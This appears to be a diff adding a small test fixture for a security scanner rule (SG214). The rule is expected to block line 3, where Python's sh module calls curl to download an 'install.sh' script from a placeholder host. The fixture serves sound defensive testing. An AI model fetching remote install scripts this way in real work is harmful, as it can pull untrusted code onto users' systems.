@@ -1,0 +1,3 @@
+# expect: block SG214@3
+import sh
+sh.curl("https://example.com/install.sh")
